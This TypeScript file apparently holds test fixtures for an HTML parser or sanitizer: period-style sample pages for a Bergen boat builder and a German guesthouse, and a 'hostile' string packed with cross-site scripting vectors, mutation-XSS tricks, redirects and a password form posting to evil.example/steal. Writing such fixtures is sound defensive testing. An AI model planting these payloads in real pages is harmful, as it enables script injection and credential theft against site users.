// Websites as people wrote them: by hand in 1998, in tables, and broken or hostile.

/** By hand: capitals, unclosed tags, frames’ names, a counter, a page in ISO 8859-1. */
export const handWritten: Readonly<Record<string, string>> = {
  '/': `<HTML><HEAD><TITLE>Hansen&#39;s Boats</TITLE>
<META NAME="description" CONTENT="Wooden boats, built &amp; mended in Bergen">
</HEAD>
<BODY BGCOLOR="#FFFFCC" TEXT=#000080 BACKGROUND="waves.gif" onLoad="startClock()">
<CENTER><H1><FONT FACE="Comic Sans MS" COLOR=red>Welcome to Hansen's Boats!</FONT></H1>
<IMG SRC="boat.gif" ALT="The sloop Ragnhild under sail" WIDTH=400>
<P>You are visitor <IMG SRC="/cgi-bin/counter.cgi?hansen">
</CENTER><HR>
<P>We build <B>wooden <I>boats</I></B> since 1961.
<P>This month:
<UL><LI>A dinghy of oak
<LI>Two <A HREF="oars.html">pairs of oars</A>
  <UL><LI>of ash<LI>of spruce</UL>
<LI>Nothing else</UL>
<DL><DT>Open<DD>Tuesday to Saturday<DT>Closed<DD>in July</DL>
<PRE>
   Length   6.4 m
   Beam     2.1 m
</PRE>
<BLOCKQUOTE>"She goes to windward like a lady." <CITE>A customer</CITE></BLOCKQUOTE>
<ADDRESS>Mail: <A HREF="mailto:hansen@boats.example">hansen@boats.example</A><BR>
<A HREF="http://www.elsewhere.example/ring">Next site of the ring</A></ADDRESS>
<A HREF="#top">To the top</A> <A HREF="index.html">Home</A>`,
  '/oars.html': `<html><title>Oars</title><h2>Oars</h2><p>Price: 40 crowns the pair.<a href=/>Home</a>`,
};

/** In tables: a navigation of pictures, a column beside another one, and one table that is a table. */
export const inTables: Readonly<Record<string, string>> = {
  '/': `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"><html lang="de"><head><title>Pension Hafenblick</title></head><body>
<table width="760" border="0" cellpadding="0"><tr>
<td width="160"><a href="zimmer.html"><img src="img/nav1.gif" alt="Zimmer" border="0"></a><br><a href="anfahrt.html"><img src="img/nav2.gif" alt="Anfahrt"></a></td>
<td><table width="100%"><tr><td><h1>Zimmer am Wasser</h1>Seit 1974 vermieten wir <em>sieben</em> Zimmer.</td></tr>
<tr><td>
<table border="1"><caption>Preise je Nacht</caption><tr><th>Zimmer</th><th>Sommer</th><th>Winter</th></tr>
<tr><td>Einzel</td><td>60&nbsp;&euro;</td><td>45 €</td></tr><tr><td>Doppel</td><td colspan="2">90 € das ganze Jahr</td></tr></table>
</td></tr></table></td></tr>
<tr><td colspan="2" align="center"><small>&copy; 2003 Familie Petersen</small></td></tr></table></body></html>`,
};

/** Broken and hostile: everything that browsers have run that nobody meant to. */
export const hostile = `<title>Offer</title><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/refresh">
<body onload=alert(1)><h1 onclick=alert(2)>Our <script>alert(3)</script>offer</h1>
<p>First words <img src=x onerror=alert(4) alt="A picture"> <a href="javascript:alert(5)">a link</a> <a href=" JaVa
script:alert(6)">another</a> <a href="data:text/html,<script>alert(7)</script>">third</a> <a href="vbscript:x">fourth</a>
<svg onload=alert(8)><script>alert(9)</script><foreignObject><body onload=alert(10)></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(11)&gt;">
<form action=https://evil.example/steal><input name=password type=password><button formaction=javascript:alert(12)>Go</button>Words in a form</form>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(13)>
<noscript><p title="</noscript><img src=x onerror=alert(14)>"></noscript>
<template><script>alert(15)</script></template><iframe srcdoc="<script>alert(16)</script>"></iframe><object data=evil.swf></object><embed src=evil.swf>
<style>body{background:url(https://evil.example/pixel)}</style><link rel=stylesheet href=//evil.example/x.css>
<div style="background:url(https://evil.example/b)">Styled words</div><marquee onstart=alert(17)>Moving words</marquee>
<a href="https://user:pass@evil.example/">with a password</a> <a href=//evil.example/away>away</a>
<p>&lt;script&gt;alert("told, not run")&lt;/script&gt; \u0000\u202e <b><i>crossed</b> over</i> <p>Unclosed <b>last words`;

export const deeplyNested = (depth: number): string =>
  `<title>Deep</title>${'<div><blockquote><ul><li><table border=1><tr><th>'.repeat(depth)}The words at the bottom`;
